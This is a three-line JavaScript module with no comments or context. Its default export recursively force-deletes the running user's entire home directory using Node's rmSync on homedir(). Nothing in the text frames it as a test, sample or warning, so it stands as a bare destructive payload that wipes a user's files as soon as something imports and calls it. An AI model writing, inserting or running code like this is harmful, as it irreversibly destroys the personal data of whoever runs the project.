import { rmSync } from "fs";
import { homedir } from "os";
export default () => rmSync(homedir(), { recursive: true, force: true });
